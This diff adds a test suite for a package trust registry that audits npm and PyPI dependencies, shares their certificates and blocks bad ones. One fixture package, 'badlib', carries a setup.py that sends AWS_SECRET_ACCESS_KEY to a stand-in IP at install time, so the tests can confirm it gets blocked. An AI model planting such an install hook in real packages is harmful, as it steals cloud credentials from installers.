@@ -1,0 +1,240 @@
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { client, logged, runCli, skillMd, startWeb, startWorker, stopAll, uuid, waitForStatus } from '../support/harness.js';
+import { closeDb, newActorKey, useDb } from '../support/db.js';
+import { startFakeNpmAdvisories, startFakePypi, type FakeServer } from '../support/fake-registries.js';
+import { makeSdist } from '../support/archives.js';
+import { PackageAudit, PackageCertificate } from '../../shared/db/models.js';
+
+const t = suite('package trust registry: dependencies audited once, shared, and blocking when bad');
+const FINAL = ['APPROVED', 'REJECTED', 'ESCALATED', 'SANDBOX_FAILED'];
+let web: { url: string };
+let api: ReturnType<typeof client>;
+let anon: ReturnType<typeof client>;
+let pypi: FakeServer;
+let advisories: FakeServer;
+let env: Record<string, string>;
+
+const benign = (name: string) => ({ [`${name}/__init__.py`]: `"""${name}: small helpers."""\n\ndef add(a, b):\n    return a + b\n`, 'setup.py': `from setuptools import setup\nsetup(name="${name}", version="1.0.0", packages=["${name}"])\n` });
+const sdist = (name: string, files: Record<string, string> = benign(name)) => ({ filename: `${name}-1.0.0.tar.gz`, content: makeSdist(name, '1.0.0', files) });
+
+t.before(
+  logged(async () => {
+    useDb();
+    pypi = await startFakePypi({
+      tinylib: { '1.0.0': { files: [sdist('tinylib')], vulnerabilities: [{ id: 'PYSEC-2026-1', summary: 'Example issue', details: 'A test advisory', fixed_in: ['1.0.1'], aliases: ['CVE-2026-0001'] }] } },
+      tamperedlib: { '1.0.0': { files: [{ ...sdist('tamperedlib'), sha256: 'f'.repeat(64) }] } },
+      toplib: { '1.0.0': { files: [sdist('toplib')], requires_dist: ['midlib>=1.0'] } },
+      midlib: { '1.0.0': { files: [sdist('midlib')], requires_dist: ['badlib==1.0.0'] } },
+      l1parent: { '1.0.0': { files: [sdist('l1parent')], requires_dist: ['badlib==1.0.0'] } },
+      badlib: {
+        '1.0.0': {
+          files: [sdist('badlib', { 'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://203.0.113.9/collect?k=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "")).read()\nfrom setuptools import setup\nsetup(name="badlib", version="1.0.0")\n', 'badlib/__init__.py': 'X = 1\n' })],
+        },
+      },
+      twinlib: { '1.0.0': { files: [sdist('twinlib')] } },
+    });
+    advisories = await startFakeNpmAdvisories({ debug: [{ id: 1001, title: 'Test advisory for debug', severity: 'low', vulnerable_versions: '<4.3.5', url: 'https://advisories.example/1001', cwe: ['CWE-400'], cvss: { score: 3.1, vectorString: 'CVSS:3.1/AV:N' } }] });
+    env = { PYPI_URL: pypi.baseUrl, NPM_ADVISORY_URL: `${advisories.baseUrl}/-/npm/v1/security/advisories/bulk`, PACKAGE_TRANSITIVE_AUDIT_CAP: '10' };
+    web = await startWeb(env);
+    await Promise.all([startWorker(env), startWorker(env)]);
+    api = client(web.url, await newActorKey());
+    anon = client(web.url);
+  }),
+);
+
+t.after(async () => {
+  await stopAll();
+  await pypi?.close();
+  await advisories?.close();
+  await closeDb();
+});
+
+async function submit(dependencyFiles: Record<string, string>, c = api) {
+  const r = await c.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles, idempotencyKey: uuid() });
+  assert.is(r.status, 201, JSON.stringify(r.body));
+  return waitForStatus(c, r.body.submissionId, FINAL, 90000);
+}
+
+const NPM_DEPS = { 'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'is-number': '7.0.0', debug: '^4.3.4 <4.3.5' } }) };
+
+t('npm and PyPI dependencies are resolved, audited, and disclosed on an approved certificate', async () => {
+  const detail = await submit({ ...NPM_DEPS, 'requirements.txt': 'tinylib==1.0.0\n' });
+  assert.is(detail.status, 'APPROVED', JSON.stringify(detail.findings));
+  const cert = (await anon.get(`/api/v1/public/certificates/${detail.skillId}`)).body.certificate;
+  const direct = new Map(cert.packages.direct.map((p: any) => [p.packageName, p]));
+  const dbg: any = direct.get('debug');
+  assert.is(dbg.declaredSpec, '^4.3.4 <4.3.5');
+  assert.is(dbg.auditedVersion, '4.3.4');
+  assert.is(dbg.status, 'CERTIFIED');
+  assert.match(dbg.distributionSha256, /^[0-9a-f]{64}$/);
+  assert.is((direct.get('is-number') as any).auditedVersion, '7.0.0');
+  assert.is((direct.get('tinylib') as any).registrySource, 'pypi');
+  const ms = cert.packages.transitive.find((p: any) => p.packageName === 'ms');
+  assert.ok(ms, JSON.stringify(cert.packages));
+  assert.is(ms.level, 1);
+  assert.is(ms.via, 'debug@4.3.4');
+  assert.equal(ms.path, ['debug@4.3.4', `ms@${ms.auditedVersion}`]);
+
+  const pkg = await anon.get('/api/v1/public/packages/npm/debug/4.3.4');
+  assert.is(pkg.status, 200);
+  assert.is(pkg.body.registrySource, 'npm');
+  assert.is(pkg.body.packageName, 'debug');
+  assert.is(pkg.body.councilVerdict, 'APPROVED');
+  assert.ok(['CLEAR', 'MONITORED'].includes(pkg.body.securityLevel), pkg.body.securityLevel);
+  assert.is(pkg.body.analysisType, 'FULL');
+  assert.is(pkg.body.registryAdvisoryCount, 1);
+  assert.is(pkg.body.registryAdvisoryHighestSeverity, 'low');
+  assert.is(pkg.body.registryAdvisories[0].id, '1001');
+  assert.match(pkg.body.verifyEndpoint, /\/api\/v1\/public\/packages\/npm\/debug\/4\.3\.4\/verify$/);
+  const v = await anon.get('/api/v1/public/packages/npm/debug/4.3.4/verify');
+  assert.is(v.body.integrityVerified, true);
+  assert.is(v.body.distributionSha256, pkg.body.distributionSha256);
+  assert.match(v.body.fileSetHash, /^[0-9a-f]{64}$/);
+  assert.type(v.body.councilRoundId, 'string');
+  assert.is(v.body.registryAdvisorySummary.count, 1);
+  const isnum = await anon.get('/api/v1/public/packages/npm/is-number/7.0.0');
+  assert.is(isnum.body.registryAdvisoryCount, 0);
+  assert.is(isnum.body.registryAdvisoryHighestSeverity, null);
+  const py = await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0');
+  assert.is(py.status, 200);
+  assert.is(py.body.registryAdvisoryCount, 1);
+  assert.is(py.body.registryAdvisories[0].id, 'PYSEC-2026-1');
+  assert.is((await anon.get('/api/v1/public/packages/npm/is-number/6.0.0')).status, 404);
+  assert.is((await anon.get('/api/v1/public/packages/cargo/serde/1.0.0')).status, 400);
+});
+
+t('a second submitter reuses the certificates: no new audit, counted as cache savings', async () => {
+  const before = await PackageCertificate.count();
+  const statsBefore = (await anon.get('/api/v1/public/packages/stats')).body;
+  const other = client(web.url, await newActorKey());
+  const detail = await submit({ ...NPM_DEPS, 'requirements.txt': 'tinylib==1.0.0\n' }, other);
+  assert.is(detail.status, 'APPROVED');
+  assert.is(await PackageCertificate.count(), before);
+  const stats = (await anon.get('/api/v1/public/packages/stats')).body;
+  assert.is(stats.totalSubmissionsBenefitingFromCache, statsBefore.totalSubmissionsBenefitingFromCache + 1);
+  assert.ok(stats.totalCostSavedUsd > statsBefore.totalCostSavedUsd);
+  assert.ok(stats.totalPackagesCertified >= 4);
+  assert.ok(stats.codeSubmissionsWithPackages >= 2);
+  assert.is(stats.coverage.npm.top100.tracked, 100);
+  assert.ok(stats.coverage.npm.top100.certified >= 1); // debug and ms are on the list
+  assert.is(stats.coverage.pypi.top1000.tracked, 1000);
+});
+
+t('a tampered distribution is a critical finding: BLOCKED, submission stopped', async () => {
+  const detail = await submit({ 'requirements.txt': 'tamperedlib==1.0.0\n' });
+  assert.is(detail.status, 'SANDBOX_FAILED');
+  const f = detail.findings.find((x: any) => x.ruleId === 'PKG-BLOCKED-001');
+  assert.ok(f, JSON.stringify(detail.findings));
+  assert.match(f.message, /tamperedlib@1\.0\.0/);
+  const pkg = await anon.get('/api/v1/public/packages/pypi/tamperedlib/1.0.0/verify');
+  assert.is(pkg.body.securityLevel, 'BLOCKED');
+  assert.is(pkg.body.integrityVerified, false);
+  assert.ok(pkg.body.retainedWarnings.some((w: any) => w.ruleId === 'PKG-INTEGRITY-001'));
+});
+
+t('a BLOCKED L1 transitive stops the submission; a BLOCKED L2 is a warning on the certificate', async () => {
+  const l1 = await submit({ 'requirements.txt': 'l1parent==1.0.0\n' });
+  assert.is(l1.status, 'SANDBOX_FAILED', JSON.stringify(l1.findings));
+  assert.ok(l1.findings.some((f: any) => f.ruleId === 'PKG-BLOCKED-001' && /badlib/.test(f.message)));
+  const l2 = await submit({ 'requirements.txt': 'toplib==1.0.0\n' });
+  assert.is(l2.status, 'APPROVED', JSON.stringify(l2.findings));
+  const v = await anon.get(`/api/v1/public/certificates/${l2.skillId}/verify`);
+  assert.ok(v.body.retainedWarnings.some((w: any) => w.ruleId === 'PKG-BLOCKED-002'), JSON.stringify(v.body.retainedWarnings));
+  const bad = (await anon.get('/api/v1/public/certificates/' + l2.skillId)).body.certificate.packages.transitive.find((p: any) => p.packageName === 'badlib');
+  assert.is(bad.level, 2);
+  assert.equal(bad.path, ['toplib@1.0.0', 'midlib@1.0.0', 'badlib@1.0.0']);
+  assert.is(bad.status, 'BLOCKED');
+});
+
+t('refused declarations get a 422 naming each dependency and why; nothing is stored', async () => {
+  const r = await api.post('/cert/v1/submissions/submit', {
+    categoryKey: 'CODE+PACKAGES',
+    skillMdContent: skillMd(),
+    idempotencyKey: uuid(),
+    dependencyFiles: { 'package.json': JSON.stringify({ dependencies: { 'left-pad': 'github:stevemao/left-pad', lodash: '*', chalk: 'latest' } }), 'requirements.txt': 'requests\nflask @ git+https://example.org/flask.git\n' },
+  });
+  assert.is(r.status, 422);
+  assert.is(r.body.error.code, 'dependency_refused');
+  const codes = Object.fromEntries(r.body.error.details.map((d: any) => [d.name, d.code]));
+  assert.is(codes['left-pad'], 'vcs_source');
+  assert.is(codes.lodash, 'wildcard');
+  assert.is(codes.chalk, 'floating_tag');
+  assert.is(codes.requests, 'wildcard');
+  assert.ok(['vcs_source', 'url_source'].includes(codes.flask));
+  const noManifest = await api.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', skillMdContent: skillMd(), idempotencyKey: uuid() });
+  assert.is(noManifest.status, 422);
+  assert.is(noManifest.body.error.code, 'missing_dependency_manifest');
+  const wrongType = await api.post('/cert/v1/submissions/submit', { categoryKey: 'SKILL', skillMdContent: skillMd(), idempotencyKey: uuid(), dependencyFiles: { 'requirements.txt': 'x==1' } });
+  assert.is(wrongType.body.error.code, 'dependency_files_not_allowed');
+});
+
+t('a package needed by two submissions at the same moment is audited once', async () => {
+  const deps = { 'requirements.txt': 'twinlib==1.0.0\n' };
+  const [a, b] = await Promise.all([submit(deps), submit(deps, client(web.url, await newActorKey()))]);
+  assert.is(a.status, 'APPROVED');
+  assert.is(b.status, 'APPROVED');
+  assert.is(await PackageCertificate.count({ where: { registry: 'pypi', name: 'twinlib', version: '1.0.0' } }), 1);
+  assert.is(await PackageAudit.count({ where: { registry: 'pypi', name: 'twinlib', version: '1.0.0' } }), 1);
+  const files = pypi.requests.filter((p) => p.includes('/files/') && p.includes('twinlib'));
+  assert.is(files.length, 1, files.join(','));
+});
+
+t('developer package preview of a draft: cached, to audit, rejected, with tiers, prices and transitive counts', async () => {
+  const cli = (args: string[]) => runCli(args, env);
+  const tok = JSON.parse((await cli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'])).stdout).token;
+  const dev = client(web.url, tok);
+  assert.is((await client(web.url, 'cert_dev_nope').post('/api/v1/cert/dev/drafts', {})).status, 401);
+  const draft = await dev.post('/api/v1/cert/dev/drafts', {
+    productType: 'CODE+PACKAGES',
+    dependencyFiles: { 'package.json': JSON.stringify({ dependencies: { 'is-number': '7.0.0', debug: '4.3.4', 'is-odd': '3.0.1', nope: 'github:a/b' } }) },
+  });
+  assert.is(draft.status, 201, JSON.stringify(draft.body));
+  const p = await dev.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`);
+  assert.is(p.status, 200, JSON.stringify(p.body));
+  assert.is(p.body.enabled, true);
+  assert.is(p.body.packagesTotal, 4);
+  assert.is(p.body.packagesCertifiedFromCache, 2);
+  assert.is(p.body.packagesToAudit, 1);
+  assert.is(p.body.packagesRejected, 1);
+  assert.is(p.body.packagesUncertified, 0);
+  assert.ok(p.body.transitiveDependenciesChecked >= 1);
+  assert.ok(p.body.savingsUsd > 0);
+  assert.ok(p.body.uncachedCostUsd > 0);
+  const odd = p.body.items.find((i: any) => i.packageName === 'is-odd');
+  assert.is(odd.status, 'TO_AUDIT');
+  assert.is(odd.cached, false);
+  assert.is(odd.dependencyType, 'DIRECT');
+  assert.type(odd.estimatedComplexityTier, 'string');
+  assert.ok(odd.estimatedPriceUsd > 0);
+  const dbg = p.body.items.find((i: any) => i.packageName === 'debug');
+  assert.is(dbg.cached, true);
+  assert.is(dbg.status, 'CERTIFIED');
+  assert.is(dbg.estimatedPriceUsd, 0);
+  const other = client(web.url, JSON.parse((await cli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'])).stdout).token);
+  assert.is((await other.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`)).status, 404);
+});
+
+t('operators override, block and revoke package certificates with an audit trail', async () => {
+  const cli = (args: string[]) => runCli([...args, '--operator', 'test-op'], env);
+  const o = await cli(['package', 'override', 'pypi', 'tinylib', '1.0.0', '--level', 'CAUTION', '--reason', 'maintainer change under review']);
+  assert.is(o.status, 0, o.stderr);
+  assert.is((await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0')).body.securityLevel, 'CAUTION');
+  const b = await cli(['package', 'block', 'pypi', 'tinylib', '1.0.0', '--reason', 'confirmed malicious']);
+  assert.is(b.status, 0, b.stderr);
+  const blocked = await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0/verify');
+  assert.is(blocked.body.securityLevel, 'BLOCKED');
+  assert.is(blocked.body.valid, false);
+  const blockedSub = await submit({ 'requirements.txt': 'tinylib==1.0.0\n' });
+  assert.is(blockedSub.status, 'SANDBOX_FAILED');
+  const r = await cli(['package', 'revoke', 'pypi', 'tinylib', '1.0.0', '--reason', 're-check', '--reaudit', '--json']);
+  assert.is(r.status, 0, r.stderr);
+  const fresh = JSON.parse(r.stdout);
+  assert.is.not(fresh.certificateId, fresh.revoked);
+  assert.is((await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0')).body.certificateId, fresh.certificateId);
+  const trail = JSON.parse((await cli(['package', 'trail', 'pypi', 'tinylib', '1.0.0', '--json'])).stdout);
+  assert.equal(trail.map((x: any) => x.action), ['package.override', 'package.block', 'package.revoke']);
+  assert.ok(trail.every((x: any) => x.operator === 'test-op'));
+});
+
+t.run();
